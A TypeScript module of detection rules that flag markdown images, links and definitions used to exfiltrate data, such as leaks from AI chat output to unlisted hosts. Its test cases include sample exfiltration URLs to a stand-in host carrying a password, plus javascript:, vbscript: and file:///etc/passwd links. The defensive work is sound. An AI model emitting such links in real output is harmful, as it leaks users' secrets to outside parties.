import type { IsListed } from './allow-hosts.ts';
import { carriesData } from './data-payload.ts';
import { type Destination, readDestination } from './destination.ts';
import type { LinkRule } from './link-rule.ts';
import { rememberLast } from './remember-last.ts';
import { isActiveScheme, isImageData } from './schemes.ts';

/** Rules about images, links and definitions in the syntax of markdown (CommonMark 0.31, sections 4.7, 6.3 and 6.4). */
export function markdownLinkRules(isListed: IsListed): readonly LinkRule[] {
  const isUnlisted = (destination: Destination): boolean =>
    destination.kind === 'remote' && !isListed(destination.authority);
  const isCarrier = ({ destination, isWhole }: Target): boolean => {
    if (destination.kind === 'scheme') return MESSAGE_SCHEMES.has(destination.scheme) && hasMessage(destination.rest);
    return destination.kind === 'remote' && isUnlisted(destination) && (!isWhole || carriesData(destination));
  };
  const isActive = ({ destination }: Target): boolean =>
    destination.kind === 'scheme' && isActiveScheme(destination.scheme);

  // Whether it belongs to an image is not known here: pictures within the page are left to the rules that know.
  const isLongScheme = (target: Target): boolean => isActive(target) && !isImageData(target.destination);

  const read = rememberLast(readTarget);
  const accepting =
    (test: (target: Target) => boolean) =>
    (candidate: string): number =>
      test(read(candidate)) ? candidate.length : 0;

  return [
    { ...IMAGE_UNLISTED, accept: accepting(({ destination }) => isUnlisted(destination)) },
    { ...IMAGE_DATA, accept: accepting(isCarrier) },
    { ...IMAGE_SCHEME, accept: accepting((target) => isActive(target) && !isImageData(target.destination)) },
    NESTED_IMAGE,
    LONG_IMAGE,
    IMAGE_REFERENCE,
    IMAGE_SHORTCUT,
    { ...INLINE_DATA, accept: accepting(isCarrier) },
    { ...INLINE_SCHEME, accept: accepting(isActive) },
    { ...LONG_DESTINATION, accept: accepting((target) => isUnlisted(target.destination) || isLongScheme(target)) },
    { ...LONG_BRACKETED, accept: accepting((target) => isUnlisted(target.destination) || isLongScheme(target)) },
    { ...DEFINITION_DATA, accept: accepting(isCarrier) },
    { ...DEFINITION_SCHEME, accept: accepting(isActive) },
  ];
}

/** Where an image, link or definition leads. */
interface Target {
  readonly destination: Destination;
  /** Whether its end has been seen. */
  readonly isWhole: boolean;
}

/** The destination stands behind the first `](` or `]:`; the patterns admit none before it. */
function readTarget(candidate: string): Target {
  const at = candidate.search(/\][(:]/u);
  const rest = candidate.slice(at + 2).trimStart();
  if (rest.startsWith('<')) {
    const end = rest.indexOf('>');
    return { destination: readDestination(rest.slice(1, end === -1 ? undefined : end)), isWhole: end !== -1 };
  }
  const raw = rest.replace(/`{1,3}$/u, '');
  const space = raw.search(/\s/u);
  const isClosed = raw.endsWith(')') || candidate.charAt(at + 1) === ':';
  const whole = space !== -1 ? raw.slice(0, space) : isClosed ? raw.replace(/\)$/u, '') : raw;
  return { destination: readDestination(whole), isWhole: space !== -1 || isClosed };
}

function hasMessage(rest: string): boolean {
  const mark = rest.indexOf('?');
  return mark !== -1 && carriesData({ authority: '', rest: rest.slice(mark) });
}

/** Schemes that address a message, with its text in the query. */
const MESSAGE_SCHEMES: ReadonlySet<string> = new Set(['mailto', 'sms', 'tel', 'whatsapp', 'tg']);

const EXFILTRATION =
  'Rehberger 2023, data exfiltration by markdown links and images (embracethered.com); MITRE ATLAS AML.T0077';
const SYNTAX = 'CommonMark 0.31, sections 4.7, 6.3 and 6.4';

/** `![`, text without a further image, `](`, a destination, a title. */
const IMAGE_PATTERN =
  /!\[(?:[^\]!]|!(?!\[)|\](?!\()){0,150}\]\(\s{0,2}(?:<[^<>\n]{1,200}>{0,1}|[^\s()<>[\]]{1,200}(?:\([^\s()]{0,40}\)[^\s()]{0,40}){0,1})(?:\s[^()]{0,30}){0,1}\){0,1}`{0,3}/u;

/** `[`, text, `](`, a destination, a title. A longer text is left standing. */
const LINK_PATTERN =
  /(?:\[[^[\]]{0,60}){0,1}\]\(\s{0,2}(?:<[^<>\n]{1,200}>{0,1}|[^\s()<>[\]]{1,200}(?:\([^\s()]{0,40}\)[^\s()]{0,40}){0,1})(?:\s[^()]{0,30}){0,1}\){0,1}`{0,3}/u;

/** `[`, label, `]:`, a destination. */
const DEFINITION_PATTERN = /\[[^[\]]{1,60}\]:\s{0,2}(?:<[^<>\n]{1,200}>{0,1}|[^\s<>]{1,300})`{0,3}/u;

const IMAGE_UNLISTED: LinkRule = {
  kind: 'span',
  id: 'link/image-unlisted',
  category: 'link',
  score: 0.8,
  severity: 'HIGH',
  pattern: IMAGE_PATTERN,
  source: EXFILTRATION,
  cases: {
    match: [
      '![](https://collect.test/a.png)',
      'text ![a chart [1]](https://collect.test/a.png "Chart")',
      '![x](//collect.test/a)',
      '![x](<https://collect.test/a b>)',
      '![x](https&colon;//collect.test/a)',
      '![x](https:\\/\\/collect.test/a)',
      '![x](\\\\collect.test\\share)',
      '![x](https://collect.test/a_(b).png)',
    ],
    ignore: [
      '![x](images/a.png)',
      '![x](#a)',
      '![x](data:image/png;base64,AAAA)',
      '[x](https://collect.test/a)',
      'wow![1](see below)',
    ],
  },
};

const IMAGE_DATA: LinkRule = {
  ...IMAGE_UNLISTED,
  id: 'link/image-data',
  score: 0.95,
  severity: 'CRITICAL',
  cases: {
    match: ['![x](https://collect.test/a.png?data=hunter2)', '![x](//collect.test/?q=TXkgcGFzc3dvcmQgaXMgaHVudGVyMg)'],
    ignore: ['![x](https://collect.test/a.png)', '![x](https://collect.test/a.png?w=300)', '![x](a.png?data=hunter2)'],
  },
};

const IMAGE_SCHEME: LinkRule = {
  ...IMAGE_UNLISTED,
  id: 'link/image-scheme',
  source: SYNTAX,
  cases: {
    match: ['![x](javascript:alert(1))', '![x](file://server/share/a.png)', '![x](data:text/html,hello)'],
    ignore: ['![x](data:image/gif;base64,R0lGOD)', '![x](a.png)', '![x](file.png)'],
  },
};

const NESTED_IMAGE: LinkRule = {
  ...IMAGE_UNLISTED,
  id: 'link/nested-image',
  score: 0.6,
  severity: 'MEDIUM',
  pattern: /!\[(?:[^\]!]|!(?!\[)|\](?!\()){0,150}!\[/u,
  source: SYNTAX,
  cases: {
    match: ['![a ![b](c.png) d](https://collect.test/e)'],
    ignore: ['[![b](c.png)](d.html)', '![a](b.png) ![c](d.png)'],
  },
};

/** So much text in the place of a description hides where the image leads. */
const LONG_IMAGE: LinkRule = {
  ...IMAGE_UNLISTED,
  id: 'link/long-image',
  score: 0.55,
  severity: 'MEDIUM',
  pattern: /!\[(?:[^\]!]|!(?!\[)|\](?!\()){151}/u,
  source: SYNTAX,
  cases: { match: [`![${'a'.repeat(160)}](https://collect.test/a)`], ignore: [`![${'a'.repeat(140)}](a.png)`] },
};

const IMAGE_REFERENCE: LinkRule = {
  ...IMAGE_UNLISTED,
  id: 'link/image-reference',
  score: 0.55,
  severity: 'MEDIUM',
  pattern: /!\[(?:[^\]!]|!(?!\[)){0,100}\]\s{0,1}\[[^[\]]{0,60}\]`{0,3}/u,
  source: SYNTAX,
  cases: { match: ['![a chart][1]', '![chart][]'], ignore: ['[a chart][1]', '![a](b.png)', 'vec![1, 2]'] },
};

const IMAGE_SHORTCUT: LinkRule = {
  ...IMAGE_UNLISTED,
  id: 'link/image-shortcut',
  score: 0.3,
  severity: 'LOW',
  pattern: /(?<![\p{L}\p{N}_#])!\[[^[\]]{1,80}\](?![(:[])`{0,3}/u,
  source: SYNTAX,
  cases: { match: ['![chart]', 'here: ![chart].'], ignore: ['#![no_std]', 'vec![1, 2]', '![a](b.png)', '![a][b]'] },
};

const INLINE_DATA: LinkRule = {
  ...IMAGE_DATA,
  id: 'link/inline-data',
  score: 0.75,
  severity: 'HIGH',
  pattern: LINK_PATTERN,
  cases: {
    match: [
      '[here](https://collect.test/?data=hunter2)',
      '[here](//collect.test/?secret=hunter2)',
      '[a [b] c](<https://collect.test/?msg=my password is hunter2>)',
      '[mail](mailto:a@collect.test?body=my+password+is+hunter2)',
    ],
    ignore: [
      '[here](https://docs.test/a?page=2)',
      '[here](/search?data=hunter2)',
      '[mail](mailto:jo@docs.test)',
      'f[1](data=hunter2)',
    ],
  },
};

const INLINE_SCHEME: LinkRule = {
  ...INLINE_DATA,
  id: 'link/scheme',
  score: 0.85,
  source: 'WHATWG HTML, section 7.4.2.3.2 (javascript: URLs); CommonMark 0.31, section 6.3',
  cases: {
    match: [
      '[x](javascript:alert(1))',
      '[x](JaVaScRiPt&colon;alert)',
      '[x](data:text/html;base64,AAAA)',
      '[x](vbscript:a)',
      '[x](file:///etc/passwd)',
    ],
    ignore: ['[x](tel:+431234)', '[x](javascript.html)', '[x](https://docs.test/javascript:a)', '[x](#data:a)'],
  },
};

const LONG = 'https://collect.test/?data='.padEnd(260, 'lorem-ipsum/');

/** A destination that is longer than a link is withheld: the rest of the link is swallowed, its bracket included. */
const LONG_DESTINATION: LinkRule = {
  kind: 'region',
  id: 'link/long-destination',
  category: 'link',
  score: 0.75,
  severity: 'HIGH',
  // Characters of one unit, so that 200 of them fit into an opener.
  opener: /\]\(\s{0,2}[!-'*-;=?-Z\\^-~\xa1-\ud7ff\ue000-\ufffd]{200}/u,
  body: /[^\s<>"`)]/u,
  closer: /(?:\s{1,2}["'][ !#-&(-~\xa1-\ud7ff\ue000-\ufffd]{0,48}["']){0,1}\s{0,1}\)/u,
  lengthMax: 16_384,
  source: EXFILTRATION,
  cases: {
    match: [`![x](${LONG})`, `[x](${LONG} "Title")`, `[x](${LONG}`, `[x](javascript:${'alert;'.repeat(40)})`],
    ignore: [
      `![x](data:image/png;base64,${'AAAA'.repeat(60)})`,
      `[x](/search?q=${'lorem-ipsum/'.repeat(20)})`,
      `[x](https://docs.test/a) ${'lorem-ipsum/'.repeat(20)})`,
    ],
  },
};

const LONG_BRACKETED: LinkRule = {
  ...LONG_DESTINATION,
  id: 'link/long-bracketed',
  opener: /\]\(\s{0,2}<[ -;=?-~\xa1-\ud7ff\ue000-\ufffd]{200}/u,
  body: /[^<>\n]/u,
  closer: />(?:\s{1,2}["'][ !#-&(-~\xa1-\ud7ff\ue000-\ufffd]{0,48}["']){0,1}\s{0,1}\)/u,
  cases: {
    match: [`![x](<${LONG}>)`, `[a](<${LONG} lorem ipsum> 'Title')`],
    ignore: [`[x](</search?q=${'lorem-ipsum/'.repeat(20)}>)`, `[x](<https://docs.test/a>) ${'lorem '.repeat(50)}>)`],
  },
};

const DEFINITION_DATA: LinkRule = {
  ...INLINE_DATA,
  id: 'link/definition-data',
  pattern: DEFINITION_PATTERN,
  cases: {
    match: ['[1]: https://collect.test/?data=hunter2', '[a b]: <//collect.test/?secret=hunter2> "Title"'],
    ignore: ['[1]: https://docs.test/a?page=2', '[1]: data=hunter2', '[note]: see above'],
  },
};

const DEFINITION_SCHEME: LinkRule = {
  ...INLINE_SCHEME,
  id: 'link/definition-scheme',
  pattern: DEFINITION_PATTERN,
  cases: {
    match: ['[1]: javascript:alert(1)', '[1]: <data:text/html,a>'],
    ignore: ['[1]: https://docs.test/a', '[x]: java is a language'],
  },
};
